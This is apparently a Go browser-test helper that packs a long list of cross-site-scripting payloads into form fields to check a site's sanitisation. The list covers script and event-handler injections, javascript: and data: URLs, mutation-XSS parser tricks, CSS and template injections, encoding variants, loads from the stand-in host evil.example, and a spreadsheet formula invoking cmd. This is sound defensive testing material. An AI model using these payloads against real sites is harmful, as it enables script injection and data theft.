package browsertest

import (
	"os"
	"strconv"
	"strings"
)

// payloadWords are what is put into fields: addresses and what must stand alone one
// by one, and elements and what closes ours eight together, to keep the site small.
// PLAYBOOK_PAYLOADS=all takes each alone. in tells how many payloads a word holds.
func payloadWords() (words []string, in map[string]int) {
	in = map[string]int{}
	all := os.Getenv("PLAYBOOK_PAYLOADS") == "all"
	var pack []string
	flush := func() {
		if len(pack) > 0 {
			word := strings.Join(pack, " ")
			words, in[word] = append(words, word), len(pack)
			pack = nil
		}
	}
	for _, p := range payloads() {
		if all || !strings.ContainsAny(p[:1], "<\"'&]-+") {
			words, in[p] = append(words, p), 1
			continue
		}
		if pack = append(pack, p); len(pack) == 8 {
			flush()
		}
	}
	flush()
	return words, in
}

// payloads try to run hacked(7), where 7 is their number, or to fetch something
// from evil.example, by every door that we know of.
func payloads() (out []string) {
	for i, p := range strings.Split(strings.Trim(hostileText, "\n"), "\n") {
		p = strings.NewReplacer("~n~", "\n", "~t~", "\t", "~ls~", "\u2028", "~ps~", "\u2029", "~rlo~", "\u202e", "~shy~", "\u00ad", "~bom~", "\ufeff", "~nbsp~", "\u00a0").Replace(p)
		out = append(out, strings.ReplaceAll(p, "7", strconv.Itoa(i+100)))
	}
	return out
}

// hostileText has one payload a line: elements, attributes that break out, elements
// that close ours, addresses, foreign content, parsers that read twice, styles,
// Markdown, templates of other engines, script strings, the charts' own syntax,
// encodings, look-alikes, spreadsheets.
const hostileText = `
<script>hacked(7)</script>
<ScRiPt src=//evil.example/7.js></sCrIpT>
<script~n~>hacked(7)</script~n~>
<script/src="data:text/javascript,hacked(7)"></script>
<<script>script>hacked(7)//<</script>
<img src=x onerror=hacked(7)>
<img/src=x/onerror=hacked(7)//
<image src=x onerror=hacked(7)>
<svg onload=hacked(7)>
<svg><script>hacked(7)</script></svg>
<svg><animate onbegin=hacked(7) attributeName=x dur=1s>
<svg><a xlink:href="javascript:hacked(7)"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>hacked(7)</script></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.hacked(7)&lt;/script&gt;"></iframe></foreignObject></svg>
<iframe srcdoc="<script>parent.hacked(7)</script>"></iframe>
<iframe src="javascript:parent.hacked(7)"></iframe>
<object data="javascript:hacked(7)"></object><embed src="//evil.example/7">
<base href="//evil.example/7/"><link rel=stylesheet href="//evil.example/7.css">
<meta http-equiv=refresh content="0;url=//evil.example/7">
<details open ontoggle=hacked(7)>x</details>
<video autoplay onloadstart=hacked(7)><source src=x onerror=hacked(7)></video>
<input autofocus onfocus=hacked(7)><xss contenteditable autofocus onfocus=hacked(7)>x</xss>
<form action="//evil.example/7"><button formaction="javascript:hacked(7)">x</button></form>
<a id=hacked></a><a id=hacked name=toString href="//evil.example/7">x</a>
<div data-search data-index="//evil.example/7/"><input type=search></div>
"><img src=x onerror=hacked(7)>
'><img src=x onerror=hacked(7)>
" autofocus onfocus=hacked(7) x="
' autofocus onfocus=hacked(7) x='
x onmouseover=hacked(7) onfocus=hacked(7) tabindex=0 autofocus y
/onfocus=hacked(7)/autofocus/
</script><script>hacked(7)</script>
</title><script>hacked(7)</script>
</textarea><img src=x onerror=hacked(7)>
</style><script>hacked(7)</script>
</select></option><img src=x onerror=hacked(7)>
</template></noscript></svg></math><img src=x onerror=hacked(7)>
--><img src=x onerror=hacked(7)><!--
<!--><img src=x onerror=hacked(7)>-->
<!-- --!><img src=x onerror=hacked(7)> -->
]]><script>hacked(7)</script><![CDATA[
<?xml-stylesheet href="javascript:hacked(7)"?><!DOCTYPE x [<!ENTITY y "<script>hacked(7)</script>">]>
javascript:hacked(7)
JaVaScRiPt:hacked(7)//
 javascript:hacked(7)
java~t~script:hacked(7)
&#106;avascript&colon;hacked(7)
javascript://%0ahacked(7)
vbscript:hacked(7)
data:text/html,<script>parent.hacked(7)</script>
data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkKDEpPC9zY3JpcHQ+
blob:https://evil.example/7
//evil.example/7.png
https://evil.example/7.png" onerror="hacked(7)
\\evil.example\7
<noscript><p title="</noscript><img src=x onerror=hacked(7)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hacked(7)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked(7)>
<svg></p><style><a id="</style><img src=x onerror=hacked(7)>">
<table><td><template><script>hacked(7)</script></template></td><select><img src=x onerror=hacked(7)>
<style>@import "//evil.example/7.css";*{background:url(//evil.example/7)}</style>
<p style="background:url(//evil.example/7);animation:x" onanimationstart=hacked(7)>x</p>
};*{background:url(//evil.example/7)}x{y:expression(hacked(7))
[x](javascript:hacked(7)) ![x](//evil.example/7.png) <javascript:hacked(7)>
[x]: javascript:hacked(7)~n~~n~[x] ![y][x]
x](y "onclick=hacked(7)") ![" onerror="hacked(7)](x)
{{ constructor.constructor('hacked(7)')() }}
{{ fact.fact7 }}{{ hacked(7) }}
{{ "<script>hacked(7)</script>" | safeHTML }}{% hacked(7) %}
${hacked(7)}#{hacked(7)}<%= hacked(7) %>
";hacked(7);//
';hacked(7);//
` + "`" + `;hacked(7);//
\";hacked(7);//\u0022;hacked(7)
\u003cscript\u003ehacked(7)\u003c/script\u003e\x3cscript\x3ehacked(7)
~ls~hacked(7)~ps~hacked(7)
__f__function(){hacked(7)}__f__
__f__hacked(7)__f__
{a|hacked(7)}{b}{@value}{{a}}
&lt;img src=x onerror=hacked(7)&gt;
&amp;lt;script&amp;gt;hacked(7)&amp;lt;/script&amp;gt;
&#60;script&#62;hacked(7)&#x3c;/script&#x3e;
+ADw-script+AD4-hacked(7)+ADw-/script+AD4-
＜script＞hacked(7)＜/script＞
<ſcript>hacked(7)</ſcript><scr~shy~ipt>hacked(7)</scr~shy~ipt>
~rlo~<img src=x onerror=hacked(7)>~bom~<script~nbsp~>hacked(7)</script>
<K/onfocus=hacked(7) autofocus tabindex=0>
=HYPERLINK("//evil.example/7";"x")+cmd|' /C hacked(7)'!A0
`
